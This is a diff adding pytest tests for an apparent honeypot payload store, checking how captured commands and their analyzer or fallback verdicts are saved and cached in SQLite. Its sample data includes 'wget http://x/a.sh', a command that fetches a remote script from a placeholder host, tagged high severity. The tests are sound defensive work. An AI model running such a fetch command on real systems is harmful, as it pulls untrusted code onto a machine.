@@ -0,0 +1,60 @@
+# test_payloads.py - payload interning: stored rows and the verdicts they keep
+import json, sqlite3
+
+import pytest
+
+import payloads
+from writer import get_writer
+
+ANALYZER = {"severity": "high", "tags": ["wget"], "source": "analyzer"}
+FALLBACK = {"severity": "low", "tags": [], "source": "rules"}
+
+
+@pytest.fixture
+def db_file(tmp_path):
+    path = str(tmp_path / "hp_events.db")
+    conn = sqlite3.connect(path)
+    conn.execute("CREATE TABLE events (id INTEGER PRIMARY KEY, session_id TEXT, payload TEXT)")
+    payloads.ensure_schema(conn)
+    conn.commit()
+    conn.close()
+    return path
+
+def stored(db_file, pid):
+    conn = sqlite3.connect(db_file)
+    try:
+        return conn.execute("SELECT verdict, count FROM payloads WHERE id = ?", (pid,)).fetchone()
+    finally:
+        conn.close()
+
+
+def test_fallback_verdict_does_not_replace_the_stored_one(db_file):
+    pid = payloads.payload_id("wget http://x/a.sh")
+    w = get_writer(db_file)
+    w.submit(payloads.NEW_SQL, payloads.row(pid, "wget http://x/a.sh", ANALYZER, 1, 1))
+    w.submit(payloads.SEEN_SQL, payloads.row(pid, "wget http://x/a.sh", FALLBACK, 2, 2))
+    assert w.flush(5)
+    verdict, count = stored(db_file, pid)
+    assert json.loads(verdict) == ANALYZER and count == 2
+
+def test_lost_row_is_queued_again_until_confirmed(db_file):
+    cache = payloads.PayloadCache()
+    pid = payloads.payload_id("uname -a")
+    cache.add(pid, "uname -a", ANALYZER, 100)     # its upsert never reached the database
+    assert cache.get(pid) == ANALYZER
+    assert not cache.seen(pid, 101)               # not stored yet: the caller queues the row again
+    assert cache.confirm(db_file) == 1
+    assert get_writer(db_file).flush(5)
+    assert stored(db_file, pid) is not None
+    assert cache.confirm(db_file) == 0
+    assert cache.seen(pid, 102)
+    cache.flush(db_file)
+    assert get_writer(db_file).flush(5)
+    assert stored(db_file, pid)[1] == 1
+
+def test_fallback_verdicts_are_not_cached(db_file):
+    cache = payloads.PayloadCache()
+    pid = payloads.payload_id("ls")
+    cache.add(pid, "ls", FALLBACK, 100, cache=False)
+    assert cache.get(pid) is None
+    assert cache.confirm(db_file) == 1            # its row is still looked after